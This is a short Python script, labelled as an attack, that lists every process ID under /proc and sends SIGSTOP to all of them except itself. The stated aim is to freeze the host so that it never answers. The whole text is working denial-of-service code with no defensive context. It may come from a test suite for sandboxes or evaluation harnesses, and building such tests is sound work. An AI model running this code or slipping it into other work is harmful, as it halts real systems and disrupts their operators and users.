# Stops whatever it may, so that it never answers.
# %% attack
import os
import signal

for name in filter(str.isdigit, os.listdir("/proc")):
    if int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGSTOP)
        except OSError:
            pass
